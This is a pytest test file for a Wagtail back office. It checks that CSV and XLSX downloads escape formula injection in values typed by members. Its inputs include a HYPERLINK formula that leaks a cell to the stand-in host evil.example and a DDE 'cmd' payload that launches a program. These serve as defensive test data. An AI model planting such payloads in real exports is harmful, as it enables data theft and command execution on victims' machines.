"""Every back-office download neutralises what members typed: the platform's listings, and Wagtail's own."""

import csv
import io

import pytest
from wagtail.admin.viewsets import viewsets
from wagtail.log_actions import log

from benefits.models import Perk, Provider
from config.text import FORMULA_STARTS
from tests.factories import make_organisation

pytestmark = pytest.mark.django_db


def _exportable():
    viewsets.populate() if not viewsets.viewsets else None
    return [viewset for viewset in viewsets.viewsets if isinstance(getattr(viewset, "list_export", None), list | tuple)]


def _downloaded_cells(client, url: str) -> list[str]:
    """The cells below the header of ``url``'s CSV download."""
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    return [cell for row in rows[1:] for cell in row]


def test_every_listing_with_a_download_neutralises_its_cells(client):
    client.get("/admin/")  # the back office's viewsets are registered when its URLs are first loaded
    exportable = _exportable()
    assert {viewset.name for viewset in exportable} >= {"benefits_perks", "crm_organisations", "crm_people"}
    unsafe = [
        viewset.name
        for viewset in exportable
        for export_format in ("csv", "xlsx")
        if viewset.index_view_class().preprocess_field_value("name", "=1+1", export_format) != "'=1+1"
    ]
    assert unsafe == []


def test_a_members_offer_is_no_formula_in_the_perks_download(back_office):
    organisation = make_organisation('=HYPERLINK("https://evil.example","Open")')
    provider = Provider.objects.create(name=organisation.name, slug="evil-ltd", organisation=organisation)
    Perk.objects.create(
        title='=HYPERLINK("https://evil.example/?x="&B2,"Open")',
        slug="evil",
        value_line="-2+3+cmd|' /C calc'!A0",
        provider=provider,
    )
    cells = _downloaded_cells(back_office, "/admin/benefits/perks/")

    assert '\'=HYPERLINK("https://evil.example/?x="&B2,"Open")' in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_wagtails_own_reports_are_neutralised_too(back_office):
    """The site history names each organisation edited, as its members typed it."""
    organisation = make_organisation('=HYPERLINK("https://evil.example","Open")')
    log(organisation, "wagtail.edit")

    cells = _downloaded_cells(back_office, "/admin/reports/site-history/")

    assert '\'=HYPERLINK("https://evil.example","Open")' in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
